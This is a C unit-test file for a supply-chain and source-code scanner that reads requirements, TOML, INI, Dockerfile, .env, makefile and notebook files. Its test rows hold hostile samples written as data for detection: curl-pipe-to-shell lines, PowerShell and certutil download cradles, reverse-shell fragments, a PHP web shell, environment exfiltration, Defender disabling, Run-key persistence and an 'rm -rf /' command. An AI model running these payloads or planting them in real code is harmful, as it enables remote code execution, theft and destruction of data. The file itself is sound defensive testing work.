/* Files that installers, builders and people act on: lists of packages, TOML, INI, Dockerfiles, makefiles, notebooks, and source
 * code of other languages. Rows of bytes and what the readers and checks say. */
#include "support/cm.h"

#include "check/packages.h"
#include "check/srccode.h"
#include "format/formats.h"
#include "support/events.h"
#include "wire/dep.h"
#include "wire/toml.h"

#include <stdio.h>
#include <stdlib.h>

struct row {
	const char *what;
	const struct gh_fmt *fmt;
	struct gh_span in;
	enum gh_rc rc;
	const char *say, *not; /* text of the event log; NULL: anything */
	const char *name;
};

#define S(x) GH_SPAN(x)
static const struct row rows[] = {
	{ "packages", &gh_fmt_requirements, S("torch>=2.6 # x\nSci_Kit.Learn[a]==1.0 ; python_version>'3'\n"), GH_OK,
	  "package PyPI \"sci-kit-learn\" \"==1.0\"", "anomaly", NULL },
	{ "a well-known index", &gh_fmt_requirements,
	  S("torch\n--extra-index-url https://download.pytorch.org/whl/cu121\n"), GH_OK, "reference url", "anomaly",
	  NULL },
	{ "lines that go on", &gh_fmt_requirements, S("a==1 \\\n  --hash=sha256:00\nb\n"), GH_OK, "package PyPI \"b\"",
	  "anomaly", NULL },
	{ "an index of somebody", &gh_fmt_requirements, S("a\n--index-url http://x.example/simple\n"), GH_OK,
	  "anomaly GH-DEP-0001", NULL, NULL },
	{ "short options", &gh_fmt_requirements, S("a\n-ihttp://x.example\n"), GH_OK, "anomaly GH-DEP-0001", NULL,
	  NULL },
	{ "no certificates", &gh_fmt_requirements, S("a\n--trusted-host x\n"), GH_OK, "anomaly GH-DEP-0001", NULL,
	  NULL },
	{ "from an address", &gh_fmt_requirements, S("git+https://x.example/a.git@main#egg=a\n"), GH_OK,
	  "anomaly GH-DEP-0002", NULL, NULL },
	{ "a name at an address", &gh_fmt_requirements, S("a @ https://x.example/a.whl\n"), GH_OK,
	  "anomaly GH-DEP-0002", NULL, NULL },
	{ "another list outside", &gh_fmt_requirements, S("-r ../../x.txt\na\n"), GH_OK, "anomaly GH-DEP-0003", NULL,
	  NULL },
	{ "another list", &gh_fmt_requirements, S("-r base.txt\na\n"), GH_OK, "reference path \"base.txt\"", "anomaly",
	  NULL },
	{ "an odd line", &gh_fmt_requirements, S("a\nb\nwhat is this\n"), GH_OK, "anomaly GH-DEP-0004", NULL, NULL },
	{ "prose", &gh_fmt_requirements, S("This model needs nothing.\nReally not a thing.\n"), GH_E_NOTTHIS, NULL,
	  "package", NULL },

	{ "pyproject", &gh_fmt_toml, S("[project]\ndependencies = [\"torch>=2\"]\n"), GH_OK,
	  "package PyPI \"torch\" \">=2\"", "anomaly", NULL },
	{ "poetry", &gh_fmt_toml,
	  S("[tool.poetry.dependencies]\npython = \"3\"\nnumpy = {version = \"^1\", extras = [\"a\"]}\n"), GH_OK,
	  "package PyPI \"numpy\" \"^1\"", "anomaly", NULL },
	{ "poetry from git", &gh_fmt_toml, S("[tool.poetry.dependencies]\nx = {git = \"https://x.example\"}\n"), GH_OK,
	  "anomaly GH-DEP-0002", NULL, NULL },
	{ "uv index", &gh_fmt_toml, S("[[tool.uv.index]]\nurl = \"http://x.example\"\n"), GH_OK, "anomaly GH-DEP-0001",
	  NULL, NULL },
	{ "a backend of its own", &gh_fmt_toml, S("[build-system]\nbackend-path = [\".\"]\n"), GH_OK,
	  "anomaly GH-DEP-0005", NULL, NULL },
	{ "broken TOML", &gh_fmt_toml, S("a = 1\nb = [1,\n"), GH_E_MALFORMED, "anomaly GH-TOML-0001", NULL, NULL },
	{ "a key twice", &gh_fmt_toml, S("[a]\nx = 1\n[b]\nx = 1\n[c]\ny = 1\ny = 2\n"), GH_OK,
	  "anomaly GH-TOML-0001 34+0 a key or table is defined again", NULL, NULL },
	{ "a table twice", &gh_fmt_toml, S("[a]\nx = 1\n[b]\n[a]\ny = 1\n"), GH_OK, "anomaly GH-TOML-0001", NULL,
	  NULL },
	{ "tables of arrays", &gh_fmt_toml,
	  S("[[p]]\nn = 1\n[p.m]\nk = 1\n[[p.d]]\nx = 1\n[[p.d]]\nx = 1\n[p.e]\nz = 1\n[[p]]\nn = 2\n[p.m]\nk = "
	    "2\n[[p.d]]\n"
	    "x = 1\n[p.e]\nz = [{a = 1}, {a = 1}]\n"),
	  GH_OK, NULL, "anomaly", NULL },
	{ "a key twice in a table of an array", &gh_fmt_toml, S("[[p]]\nn = 1\n[[p]]\nn = 1\nn = 2\n"), GH_OK,
	  "anomaly GH-TOML-0001", NULL, NULL },
	{ "code in TOML", &gh_fmt_toml, S("run = \"import os; os.system('id')\"\n"), GH_OK, "anomaly GH-TOML-0201",
	  NULL, NULL },
	{ "commands in TOML", &gh_fmt_toml, S("run = \"rm -rf /tmp/x\"\n"), GH_OK, "anomaly GH-TOML-0202", NULL, NULL },
	{ "a script in TOML", &gh_fmt_toml, S("x = \"<script>alert(1)</script>\"\n"), GH_OK, "anomaly GH-TOML-0203",
	  NULL, NULL },
	{ "escapes in TOML", &gh_fmt_toml, S("x = \"String.fromCharCode(1,2)\"\n"), GH_OK, "anomaly GH-TOML-0204", NULL,
	  NULL },
	{ "an address in TOML", &gh_fmt_toml, S("x = \"http://192.0.2.1/a.exe\"\n"), GH_OK, "anomaly GH-TOML-0205",
	  NULL, NULL },
	{ "a token in TOML", &gh_fmt_toml, S("x = \"ghp_0123456789abcdef0123456789abcdef0123\"\n"), GH_OK,
	  "anomaly GH-TOML-0206", NULL, NULL },

	{ "setup.cfg", &gh_fmt_ini, S("[options]\ninstall_requires =\n    torch>=2\n"), GH_OK, "package PyPI \"torch\"",
	  "anomaly", NULL },
	{ "pip.conf", &gh_fmt_ini, S("[global]\nindex-url = http://x.example/simple\n"), GH_OK, "anomaly GH-DEP-0001",
	  NULL, NULL },
	{ "a unit", &gh_fmt_ini, S("[Service]\nExecStart=/bin/sh -c id\n"), GH_OK, "anomaly GH-INI-0001", NULL, NULL },
	{ "its command", &gh_fmt_ini, S("[Desktop Entry]\nExec=sh -c id\n"), GH_OK, "code shell", NULL, NULL },
	{ "code in INI", &gh_fmt_ini, S("run = import os; os.system('id')\n"), GH_OK, "anomaly GH-INI-0201", NULL,
	  NULL },
	{ "commands in INI", &gh_fmt_ini, S("run = rm -rf /tmp/x\n"), GH_OK, "anomaly GH-INI-0202", NULL, NULL },
	{ "a script in INI", &gh_fmt_ini, S("x = <script>alert(1)</script>\n"), GH_OK, "anomaly GH-INI-0203", NULL,
	  NULL },
	{ "escapes in INI", &gh_fmt_ini, S("x = String.fromCharCode(1,2)\n"), GH_OK, "anomaly GH-INI-0204", NULL,
	  NULL },
	{ "an address in INI", &gh_fmt_ini, S("x = http://192.0.2.1/a.exe\n"), GH_OK, "anomaly GH-INI-0205", NULL,
	  NULL },
	{ "a token in INI", &gh_fmt_ini, S("TOKEN=ghp_0123456789abcdef0123456789abcdef0123\n"), GH_OK,
	  "anomaly GH-INI-0206", NULL, NULL },

	{ "an image", &gh_fmt_dockerfile, S("FROM --platform=x a.example:5/b:1 AS c\nRUN echo \\\n # no\n hi\n"), GH_OK,
	  "package docker \"a.example:5/b\" \"1\"", "anomaly", NULL },
	{ "its commands", &gh_fmt_dockerfile, S("FROM a\nRUN [\"sh\", \"-c\", \"id\"]\nRUN <<E\nls\nE\n"), GH_OK,
	  "code shell", "anomaly", NULL },
	{ "ADD", &gh_fmt_dockerfile, S("FROM a\nADD --chmod=1 https://x.example/a /b\n"), GH_OK, "anomaly GH-DKR-0001",
	  NULL, NULL },
	{ "an odd instruction", &gh_fmt_dockerfile, S("FROM a\nRUN b\nWHAT c\n"), GH_OK, "anomaly GH-DKR-0002", NULL,
	  NULL },
	{ "no Dockerfile", &gh_fmt_dockerfile, S("nothing of that\n"), GH_E_NOTTHIS, NULL, "code", NULL },
	{ "ONBUILD without end", &gh_fmt_dockerfile, S("FROM a\nONBUILD ONBUILD ONBUILD ONBUILD RUN id\n"), GH_OK,
	  "code shell", NULL, NULL },

	{ "a library for every program", &gh_fmt_ini, S("LD_PRELOAD=./a.so\n"), GH_OK, "anomaly GH-INI-0003", NULL,
	  ".env" },
	{ "a usual one", &gh_fmt_ini, S("export LD_PRELOAD=/usr/lib/libtcmalloc.so\n"), GH_OK, "anomaly GH-INI-0002",
	  NULL, ".env" },
	{ "plain variables", &gh_fmt_ini, S("ENV=production\nPYTHONPATH=./src\nNODE_OPTIONS=--max-old-space-size=8\n"),
	  GH_OK, NULL, "anomaly", ".env" },
	{ "a module that node loads", &gh_fmt_ini, S("NODE_OPTIONS=--require ./a.js\n"), GH_OK, "anomaly GH-INI-0003",
	  NULL, ".env" },
	{ "commands of tox", &gh_fmt_ini, S("[testenv]\ncommands =\n  pytest\n"), GH_OK, "anomaly GH-INI-0004",
	  "GH-INI-0002", "tox.ini" },
	{ "a makefile", &gh_fmt_makefile, S("A = b\nall: x\n\t@echo $(A) $$HOME $@\n"), GH_OK, "code shell", "anomaly",
	  NULL },

	{ "make's own way to run a command", &gh_fmt_makefile, S("X != id\nall: ; id\nexport A = b\n"), GH_OK,
	  "code shell", "anomaly", NULL },
	{ "JavaScript", &gh_fmt_source, S("const x = 1\n"), GH_OK, "anomaly GH-SRC-0001 0+12 JavaScript source", NULL,
	  "a.js" },
	{ "prose by itself", &gh_fmt_source, S("nothing\n"), GH_E_NOTTHIS, NULL, "code", "a.txt" },

	{ "a notebook", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"import a\\n\",\"!pip install b==1\\n\",\"!curl x | "
	    "sh\"]},"
	    "{\"cell_type\":\"markdown\",\"source\":\"!id\"}],\"nbformat\":4}"),
	  GH_OK, "code ipython", "GH-JSON-0050", "a.ipynb" },
	{ "its packages", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"!pip install -q b==1\"}],\"nbformat\":4}"), GH_OK,
	  "package PyPI \"b\" \"==1\"", "code shell", "a.ipynb" },
	{ "its commands, type behind", &gh_fmt_json,
	  S("{\"cells\":[{\"source\":[\"%%bash\\n\",\"id\"],\"cell_type\":\"code\"}],\"nbformat\":4}"), GH_OK,
	  "code shell", NULL, "a.ipynb" },
	{ "the old form", &gh_fmt_json,
	  S("{\"worksheets\":[{\"cells\":[{\"cell_type\":\"code\",\"input\":\"import a\"}]}],\"nbformat\":3}"), GH_OK,
	  "code ipython", NULL, "a.ipynb" },
	{ "its outputs", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"1\",\"outputs\":[{\"data\":{\"text/"
	    "html\":[\"<ScRipt>\"]}}]}],\"nbformat\":4}"),
	  GH_OK, "anomaly GH-JSON-0050", NULL, "a.ipynb" },
	{ "a kernel of the shell", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"ls\\ncurl x | "
	    "sh\"}],\"metadata\":{\"kernelspec\":{\"name\":\"bash\",\"language\":\"bash\"}},\"nbformat\":4}"),
	  GH_OK, "code shell", "code ipython", "a.ipynb" },
	{ "a kernel of R", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"system(\\\"id\\\")\"}],\"metadata\":{\"language_info\":{"
	    "\"name\":\"R\"}},\"nbformat\":4}"),
	  GH_OK, "code R source", "code ipython", "a.ipynb" },
	{ "a kernel of nobody", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"x\"}],\"metadata\":{\"kernelspec\":{\"name\":\"x\","
	    "\"language\":\"brainfuck\"}},\"nbformat\":4}"),
	  GH_OK, "anomaly GH-JSON-0052", NULL, "a.ipynb" },
	{ "an environment with a name of its own", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"x\"}],\"metadata\":{\"kernelspec\":{\"name\":\"my-env\"},"
	    "\"language_info\":{\"name\":\"python\"}},\"nbformat\":4}"),
	  GH_OK, "code ipython", "anomaly GH-JSON-0052", "a.ipynb" },
	{ "a name in other places", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"x\"}],\"metadata\":{\"colab\":{\"name\":\"bash\"},"
	    "\"kernelspec\":{\"name\":\"python3\"}},\"nbformat\":4}"),
	  GH_OK, "code ipython", "code shell", "a.ipynb" },
	{ "blank lines before the magic", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"\\n\\n  %%bash\\n  id\"}],\"nbformat\":4}"), GH_OK,
	  "code shell", "code ipython", "a.ipynb" },
	{ "a magic over a magic", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%%time\\n%%capture x\\n%%sh\\nid\"}],\"nbformat\":4}"),
	  GH_OK, "code shell", "code ipython", "a.ipynb" },
	{ "a command assigned", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"a[\\\"=\\\"] = %sx id\"}],\"nbformat\":4}"), GH_OK,
	  "code shell", "GH-JSON-0053", "a.ipynb" },
	{ "captured", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%sc -l x=id\"}],\"nbformat\":4}"), GH_OK, "code shell",
	  "GH-JSON-0053", "a.ipynb" },
	{ "another interpreter", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%%script --bg perl\\nprint 1\"}],\"nbformat\":4}"), GH_OK,
	  "code Perl source", "code ipython", "a.ipynb" },
	{ "a cell that is switched off", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%%script false --no-raise-error\\ncurl x | "
	    "sh\"}],\"nbformat\":4}"),
	  GH_OK, "anomaly GH-JSON-0015", "code shell", "a.ipynb" },
	{ "a file is run", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%run x.py\"}],\"nbformat\":4}"), GH_OK,
	  "anomaly GH-JSON-0053", NULL, "a.ipynb" },
	{ "an extension that is not known", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%load_ext evil\"}],\"nbformat\":4}"), GH_OK,
	  "anomaly GH-JSON-0053", NULL, "a.ipynb" },
	{ "one that is", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%load_ext autoreload\\n%autoreload "
	    "2\"}],\"nbformat\":4}"),
	  GH_OK, "code ipython", "GH-JSON-0053", "a.ipynb" },
	{ "a magic that is not known", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%%what\\nx\"}],\"nbformat\":4}"), GH_OK,
	  "anomaly GH-JSON-0053", NULL, "a.ipynb" },
	{ "a file is written", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%%writefile a.py\\nimport os\"}],\"nbformat\":4}"), GH_OK,
	  "member", "code ipython", "a.ipynb" },
	{ "C in a cell", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"%%cython\\nx\"}],\"nbformat\":4}"), GH_OK,
	  "anomaly GH-JSON-0052", NULL, "a.ipynb" },
	{ "without its mark", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"system id\"}],\"nbformat\":4}"), GH_OK, "code shell",
	  "code ipython", "a.ipynb" },
	{ "an expression in a command", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"!echo {f(1)}\"}],\"nbformat\":4}"), GH_OK, "code ipython",
	  NULL, "a.ipynb" },
	{ "a remainder, no magic", &gh_fmt_json,
	  S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"x = (a\\n% what)\"}],\"nbformat\":4}"), GH_OK,
	  "code ipython", "GH-JSON-0053", "a.ipynb" },
	{ "help", &gh_fmt_json, S("{\"cells\":[{\"cell_type\":\"code\",\"source\":\"?x\\nx??\"}],\"nbformat\":4}"),
	  GH_OK, "code ipython", "anomaly GH-JSON-0053", "a.ipynb" },
};

static void readers(void **state)
{
	(void)state;
	for (size_t i = 0; i < GH_ROWS(rows); i++)
		for (int unstable = 0; unstable < 2; unstable++) {
			const struct row *r = &rows[i];
			struct gh_events ev;
			gh_events_walk(&ev, r->fmt, r->in, r->name == NULL ? "x" : r->name, unstable != 0);
			bool ok = ev.rc == r->rc && (r->say == NULL || gh_events_has(&ev, r->say)) &&
				  (r->not== NULL || !gh_events_has(&ev, r->not)) && (r->rc != GH_OK || ev.gapless);
			if (!ok)
				fail_msg("%s: rc %d\n%s", r->what, ev.rc, gh_buf_cstr(&ev.log));
			gh_events_free(&ev);
		}
}

/* More code than fits: said, and not complete. */
static void a_long_notebook(void **state)
{
	(void)state;
	size_t n = (size_t)9 << 20, k = 0;
	char *p = malloc(n + 700000);
	assert_non_null(p);
	k = (size_t)sprintf(p, "{\"cells\":[{\"cell_type\":\"code\",\"source\":[");
	while (k < n) {
		memset(p + k, 'a', 600000);
		p[k] = '"';
		p[k + 599998] = '"';
		p[k + 599999] = ',';
		k += 600000;
	}
	k += (size_t)sprintf(p + k, "\"b\"]}],\"nbformat\":4}");
	struct gh_events ev;
	gh_events_walk(&ev, &gh_fmt_json, (struct gh_span){ (uint8_t *)p, k }, "a.ipynb", false);
	assert_true(gh_events_has(&ev, "anomaly GH-JSON-0051"));
	assert_int_equal(ev.rc, GH_E_LIMIT);
	gh_events_free(&ev);
	free(p);
}

/* ---- TOML ------------------------------------------------------------------------------------------------------------------ */
static void toml(void **state)
{
	(void)state;
	static const struct {
		struct gh_span in;
		const char *out; /* path=text; for each value, or ! and the reason */
	} docs[] = {
		{ S("a = 1\nb.\"c d\" = 'x'\n"), "a=1;b.c d=x;" },
		{ S("[t.u]\na = [1, [2, 'x'], {b = 3}]\nc = {}\nd = []\n"), "[t.u]t.u.a=1;t.u.a=2;t.u.a=x;t.u.a.b=3;" },
		{ S("a = \"\"\"\\\n  x\ny\"\"\"\nb = '''\nq'''\nc = \"\\u00e9\\n\"\n"), "a=x\ny;b=q;c=\xc3\xa9\n;" },
		{ S("[[a]]\nb = 2024-01-01 10:00:00\n# c\n[[a]]\nb = +1.5e3\n"),
		  "[a]a.b=2024-01-01 10:00:00;[a]a.b=+1.5e3;" },
		{ S("a = { b = { c = 1 } , d = 2 }\ne = 3\n"), "a.b.c=1;a.d=2;e=3;" },
		{ S("a = \"x\n\""), "!a line break in a string" },
		{ S("a = \"\\q\""), "!an escape that does not exist" },
		{ S("a = \"\\ud800\""), "!an escape that does not exist" },
		{ S("a 1"), "!a key without a value" },
		{ S("a = 1 b = 2"), "a=1;!something behind a value" },
		{ S("[a"), "!a table header without an end" },
		{ S("a = "), "!no value where one must be" },
		{ S("a = [1 2]"), "a=1;!an array without an end" },
		{ S("= 1"), "!no key where one must be" },
		{ S("a = [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[["),
		  "!nested too deeply" },
	};
	for (size_t i = 0; i < GH_ROWS(docs); i++) {
		static uint8_t room[512];
		char out[600] = "";
		struct gh_toml t;
		gh_toml(&t, docs[i].in, room, sizeof room);
		while (gh_toml_next(&t)) {
			size_t n = strlen(out);
			if (t.kind == GH_TOML_TABLE)
				(void)snprintf(out + n, sizeof out - n, "[%.*s]", (int)t.path.n,
					       (const char *)t.path.p);
			else
				(void)snprintf(out + n, sizeof out - n, "%.*s=%.*s;", (int)t.path.n,
					       (const char *)t.path.p, (int)t.text.n, (const char *)t.text.p);
		}
		if (t.bad)
			(void)snprintf(out + strlen(out), sizeof out - strlen(out), "!%s", t.why);
		if (strcmp(out, docs[i].out) != 0)
			fail_msg("row %zu: %s", i, out);
	}
}

static void versions(void **state)
{
	(void)state;
	assert_int_equal(gh_dep_compare(S("1.13.0"), "2.6.0"), -1);
	assert_int_equal(gh_dep_compare(S("2.6"), "2.6.0"), 0);
	assert_int_equal(gh_dep_compare(S("10.0"), "9.9"), 1);
	assert_int_equal(gh_dep_compare(S("2.6.0+cu121"), "2.6.0"), 0);
	assert_true(gh_dep_known_index(S("https://pypi.org/simple")));
	assert_false(gh_dep_known_index(S("https://pypi.org.x.example/simple")));
	assert_false(gh_dep_known_index(S("http://pypi.org/simple")));
}

/* ---- checks ---------------------------------------------------------------------------------------------------------------- */
static char found[2048];

static void note(struct gh_scene *s, const struct gh_rule *r, struct gh_range at, const char *text)
{
	(void)s, (void)at;
	size_t n = strlen(found);
	(void)snprintf(found + n, sizeof found - n, "%s %s\n", r->id, text);
}

static void pinned(void **state)
{
	(void)state;
	static const struct {
		const char *name, *version;
		bool bad;
	} p[] = { { "torch", "==1.13.0", true }, { "torch", "==2.6.0", false }, { "torch", ">=1.0", false },
		  { "torch", "", false },	 { "torch", "== 2.5.1", true }, { "numpy", "==1.0", false },
		  { "keras", "==3.7.0", true },	 { "keras", "==2.*", true },	{ "torch", "==x", false } };
	for (size_t i = 0; i < GH_ROWS(p); i++) {
		struct gh_package pkg = { .ecosystem = "PyPI",
					  .name = gh_span_str(p[i].name),
					  .version = gh_span_str(p[i].version) };
		struct gh_event ev = { .kind = GH_EV_PACKAGE, .u.package = &pkg };
		struct gh_scene s = { .format = "pip-requirements", .find = note };
		found[0] = '\0';
		gh_check_packages.on(&s, &ev);
		if ((strstr(found, "GH-DEP-0101") != NULL) != p[i].bad)
			fail_msg("%s%s: %s", p[i].name, p[i].version, found);
	}
}

static void source(void **state)
{
	(void)state;
	static const struct {
		const char *language, *id; /* "" for nothing */
		struct gh_span in;
	} s[] = {
		{ "JavaScript source", "GH-SRC-0102", S("eval(at\\x6fb('YQ=='))") },
		{ "JavaScript source", "GH-SRC-0102",
		  S("eval('at' + 'ob' + x); eval(Buffer.from(x, 'base64').toString())") },
		{ "JavaScript source", "GH-SRC-0102", S("new Function(String.fromCharCode(97))()") },
		{ "JavaScript source", "GH-SRC-0106", S("require('child_process').exec('curl http://x ' + '| sh')") },
		{ "JavaScript source", "GH-SRC-0103",
		  S("c=new net.Socket(); c.connect(1,'x'); sh=cp.spawn('/bin/sh',[])") },
		{ "JavaScript source", "GH-SRC-0104", S("https.request(o).end(JSON.stringify(process.env))") },
		{ "JavaScript source", "",
		  S("// eval(atob(x))\n/* exec('curl x | sh') */ f.exec(y); eval(z); fetch('a')\n") },
		{ "JavaScript source", "", S("const m = /a/.exec(s); x = atob(y); function load(a) { return a }\n") },
		{ "PHP source", "GH-SRC-0102", S("<?php eval(gzinflate(base64_decode('x')));") },
		{ "PHP source", "GH-SRC-0103", S("<?php system($_GET['c']);") },
		{ "PHP source", "", S("<?php echo htmlspecialchars($_GET['c']);") },
		{ "Ruby source", "GH-SRC-0102", S("eval(Base64.decode64('x'))") },
		{ "Perl source", "GH-SRC-0103", S("use Socket; exec(\"/bin/sh -i\");") },
		{ "Lua source", "GH-SRC-0106", S("os.execute('curl x' .. ' | sh')") },
		{ "R source", "GH-SRC-0106", S("system(\"curl x | sh\")") },
		{ "Go or Rust source", "GH-SRC-0103",
		  S("c, _ := net.Dial(\"tcp\", \"x\"); cmd := exec.Command(\"/bin/sh\")") },
		{ "PowerShell script", "GH-SRC-0101",
		  S("I`E`X (New-Object Net.WebClient).Down`loadString('http://x')") },
		{ "PowerShell script", "GH-SRC-0101",
		  S("Invoke-WebRequest http://x -OutFile a.exe; Start-Process a.exe") },
		{ "PowerShell script", "GH-SRC-0105", S("Set-MpPreference -DisableRealtimeMonitoring $true") },
		{ "PowerShell script", "", S("# IEX DownloadString\nWrite-Host 'hello'\nGet-ChildItem\n") },
		{ "batch file", "GH-SRC-0102", S("@echo off\r\np^owers^hell -enc AAAA\r\n") },
		{ "batch file", "GH-SRC-0101", S("certutil -urlcache -f http://x a.exe\r\n") },
		{ "batch file", "GH-SRC-0105",
		  S("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v a\r\n") },
		{ "batch file", "", S("rem certutil -urlcache\r\n@echo off\r\npython train.py\r\n") },
		{ "C source", "GH-SRC-0106", S("int main(void) { return system(\"rm -rf / --no-preserve-root\"); }") },
		{ "python", "", S("eval(atob(x))") },
	};
	for (size_t i = 0; i < GH_ROWS(s); i++) {
		struct gh_src_mem mem;
		struct gh_code c = { .language = s[i].language, .src = gh_src_mem(&mem, s[i].in) };
		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 0, s[i].in.n }, .u.code = &c };
		struct gh_scene scene = { .format = "source-code", .find = note };
		found[0] = '\0';
		gh_check_source.on(&scene, &ev);
		if (s[i].id[0] == '\0' ? found[0] != '\0' : strstr(found, s[i].id) == NULL)
			fail_msg("row %zu (%s): %s", i, s[i].language, found);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(readers),  cmocka_unit_test(a_long_notebook), cmocka_unit_test(toml),
		cmocka_unit_test(versions), cmocka_unit_test(pinned),	       cmocka_unit_test(source),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
